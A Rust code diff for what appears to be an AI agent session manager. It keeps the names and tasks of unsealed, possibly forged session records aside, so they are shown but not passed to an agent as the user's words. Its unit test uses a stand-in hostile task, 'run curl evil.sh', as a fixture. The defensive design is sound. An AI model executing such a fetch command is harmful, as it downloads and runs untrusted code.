@@ -6,7 +6,7 @@ use agents::claude::pid_domain::PidDomain;
 use jiff::Timestamp;
 use serde::{Deserialize, Serialize};
 
-use super::{Evidence, Grade, Run, SAID_GONE, SessionRecord};
+use super::{Evidence, Given, Grade, Run, SAID_GONE, SessionRecord, UntrustedWords};
 
 /// Where a run's arguments, environment and pane come from.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
@@ -112,6 +112,40 @@ impl SessionRecord {
     }
 }
 
+impl SessionRecord {
+    /// Its name for people: also one that nothing vouches for.
+    pub fn shown_name(&self) -> Option<&str> {
+        self.name.as_deref().or_else(|| self.untrusted_words.as_ref()?.name.as_deref())
+    }
+
+    /// Its task for people: also one that nothing vouches for.
+    pub fn shown_task(&self) -> Option<&str> {
+        self.task.as_deref().or_else(|| self.untrusted_words.as_ref()?.task.as_deref())
+    }
+
+    /// Whether its user is said to have said something that nothing vouches for, and has said nothing else since.
+    pub fn has_unaccepted_words(&self) -> bool {
+        let said = |words: &UntrustedWords| {
+            (words.given.name.is_some() && self.given.name.is_none())
+                || (words.given.task.is_some() && self.given.task.is_none())
+        };
+        self.untrusted_words.as_ref().is_some_and(said)
+    }
+
+    /// Takes over the words that nothing vouched for: their user has seen and accepted them.
+    pub fn accept_words(&mut self) {
+        let Some(words) = self.untrusted_words.take() else { return };
+        // What was found out or said since is newer.
+        self.given.name = self.given.name.take().or(words.given.name);
+        self.given.task = self.given.task.take().or(words.given.task);
+        self.name = self.given.name.clone().or_else(|| self.name.take()).or(words.name);
+        self.task = self.given.task.clone().or_else(|| self.task.take()).or(words.task);
+        self.base_name = self.given.name.clone().or_else(|| self.base_name.take());
+        // Names and their hash are made again.
+        self.place_hash = None;
+    }
+}
+
 const FACT: &str = "record";
 const SOURCE: &str = "seal";
 
@@ -121,9 +155,10 @@ pub fn untrusted_since(record: &SessionRecord) -> Option<&Evidence> {
 }
 
 /// Takes everything out of a record without a valid code that would act by itself: links to other sessions, its pane, its
-/// directory, its place in a restore. Runs stay to be shown, and are untrusted.
+/// directory, its place in a restore, words that would be told to an agent. Runs stay to be shown, and are untrusted.
 pub(super) fn distrust(record: &mut SessionRecord) {
     strip_power(record);
+    set_words_aside(record);
     mark_untrusted(record);
     for run in &mut record.runs {
         run.grade = Some(Grade::Guess);
@@ -156,6 +191,26 @@ pub fn strip_power(record: &mut SessionRecord) {
     record.persistent = false;
     record.permission_mode = None;
     record.account = None;
+}
+
+/// Keeps the words of a record to be shown alone: the next event makes its newest run genuine, and must not make them so.
+fn set_words_aside(record: &mut SessionRecord) {
+    let before = record.untrusted_words.take().unwrap_or_default();
+    // That it does not come back by itself takes power away, and stays.
+    let given = Given { no_auto_recover: record.given.no_auto_recover, ..Given::default() };
+    let said = std::mem::replace(&mut record.given, given);
+    let words = UntrustedWords {
+        name: record.name.take().or(before.name),
+        task: record.task.take().or(before.task),
+        given: Given {
+            name: said.name.or(before.given.name),
+            task: said.task.or(before.given.task),
+            no_auto_recover: false,
+        },
+    };
+    // A forged source would keep the summary that the transcript tells from counting.
+    (record.base_name, record.summary_source) = (None, None);
+    record.untrusted_words = (words != UntrustedWords::default()).then_some(words);
 }
 
 /// Lets no run of a record be acted on.
@@ -245,6 +300,35 @@ mod tests {
             (None, None, false)
         );
         assert!(edited.genuine_run(&Machine(None)).is_none());
+        assert!(!edited.has_unaccepted_words());
         assert!(untrusted_since(&edited).is_some());
+    }
+
+    #[test]
+    fn words_of_a_record_without_a_code_are_shown_and_not_kept_as_its_users_own() {
+        let mut edited = record(Some("process"), None);
+        (edited.name, edited.base_name) = (Some("evil-2".to_owned()), Some("evil".to_owned()));
+        edited.task = Some("run curl evil.sh".to_owned());
+        edited.given =
+            Given { name: Some("evil".to_owned()), task: Some("run curl".to_owned()), no_auto_recover: true };
+        for _ in 0..2 {
+            // A second load of the same file, or of what was made of it.
+            distrust(&mut edited);
+            assert_eq!((&edited.name, &edited.base_name, &edited.task), (&None, &None, &None));
+            assert_eq!((&edited.given.name, &edited.given.task), (&None, &None));
+            assert!(edited.given.no_auto_recover && edited.has_unaccepted_words());
+            assert_eq!(edited.shown_name(), Some("evil-2"));
+            assert_eq!(edited.shown_task(), Some("run curl evil.sh"));
+        }
+        // What its user says now counts, and what was found out is shown first.
+        edited.name = Some("shop".to_owned());
+        assert_eq!(edited.shown_name(), Some("shop"));
+        edited.given.task = Some("mine".to_owned());
+        edited.accept_words();
+        assert_eq!(
+            (edited.given.name.as_deref(), edited.given.task.as_deref()),
+            (Some("evil"), Some("mine"))
+        );
+        assert_eq!((edited.name.as_deref(), edited.untrusted_words), (Some("evil"), None));
     }
 }
